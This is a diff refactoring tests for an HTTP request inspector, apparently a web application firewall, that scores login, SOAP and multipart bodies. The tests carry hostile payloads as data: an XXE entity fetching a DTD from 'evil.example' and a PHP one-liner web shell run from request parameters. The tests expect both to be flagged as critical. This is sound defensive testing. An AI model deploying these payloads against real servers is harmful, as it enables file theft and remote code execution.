@@ -40,24 +40,18 @@ const inspector = createInspector(config, { ruleset });
 after(() => inspector.close());
 
 const RANK: Record<string, number> = { info: 0, low: 1, medium: 2, high: 3, critical: 4 };
-const json = (body: object): InspectionInput => ({
+/** A POST of `body` as `contentType` to `path`. */
+const post = (path: string, contentType: string, body: string): InspectionInput => ({
   method: 'POST',
-  path: '/api/login',
+  path,
   rawQuery: '',
-  headers: { host: 'api.example.com', 'content-type': 'application/json' },
-  body: Buffer.from(JSON.stringify(body)),
-  contentType: 'application/json',
-  bodyComplete: true,
-});
-const form = (body: string): InspectionInput => ({
-  method: 'POST',
-  path: '/login',
-  rawQuery: '',
-  headers: { host: 'api.example.com', 'content-type': 'application/x-www-form-urlencoded' },
+  headers: { host: 'api.example.com', 'content-type': contentType },
   body: Buffer.from(body),
-  contentType: 'application/x-www-form-urlencoded',
+  contentType,
   bodyComplete: true,
 });
+const json = (body: object): InspectionInput => post('/api/login', 'application/json', JSON.stringify(body));
+const form = (body: string): InspectionInput => post('/login', 'application/x-www-form-urlencoded', body);
 const top = (i: InspectionInput): number =>
   inspector
     .inspect(i)
@@ -114,33 +108,19 @@ describe('password fields', () => {
       '--b0--',
       '',
     ].join('\r\n');
-    const r: InspectionInput = {
-      method: 'POST',
-      path: '/upload',
-      rawQuery: '',
-      headers: { host: 'api.example.com', 'content-type': 'multipart/form-data; boundary=b0' },
-      body: Buffer.from(part),
-      contentType: 'multipart/form-data; boundary=b0',
-      bodyComplete: true,
-    };
-    assert.equal(top(r), RANK.critical);
+    assert.equal(top(post('/upload', 'multipart/form-data; boundary=b0', part)), RANK.critical);
   });
 
   test('a SOAP login is judged and recorded like a form login, its password blanked in the whole document', () => {
     const p = GENERATED[5]!.replace('>', '&gt;');
-    const soap = (password: string, attr = false): InspectionInput => ({
-      method: 'POST',
-      path: '/soap',
-      rawQuery: '',
-      headers: { host: 'api.example.com', 'content-type': 'text/xml' },
-      body: Buffer.from(
+    const soap = (password: string, attr = false): InspectionInput =>
+      post(
+        '/soap',
+        'text/xml',
         attr
           ? `<Envelope><Body><Login user="jane" password="${password}"/></Body></Envelope>`
           : `<Envelope><Body><Login><User>jane</User><Password>${password}</Password></Login></Body></Envelope>`,
-      ),
-      contentType: 'text/xml',
-      bodyComplete: true,
-    });
+      );
     for (const r of [soap(p), soap(p, true)]) {
       const found = inspector.inspect(r);
       assert.ok(found.every((f) => RANK[f.severity]! <= RANK.low!), JSON.stringify(found));
@@ -155,18 +135,8 @@ describe('password fields', () => {
       '<!DOCTYPE r [<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]><Login><Password>ENTITY</Password></Login>',
       // The same code outside the password as inside it (a fifth review).
       '<?php $_GET[0]($_POST[1]);?><L><U>a</U><Password><![CDATA[<?php $_GET[0]($_POST[1]);?>]]></Password></L>',
-    ]) {
-      const r: InspectionInput = {
-        method: 'POST',
-        path: '/soap',
-        rawQuery: '',
-        headers: { host: 'api.example.com', 'content-type': 'application/xml' },
-        body: Buffer.from(xml),
-        contentType: 'application/xml',
-        bodyComplete: true,
-      };
-      assert.equal(top(r), RANK.critical, xml);
-    }
+    ])
+      assert.equal(top(post('/soap', 'application/xml', xml)), RANK.critical, xml);
   });
 
   test('code execution, a UNION SELECT and long values keep their severity in a password field', () => {
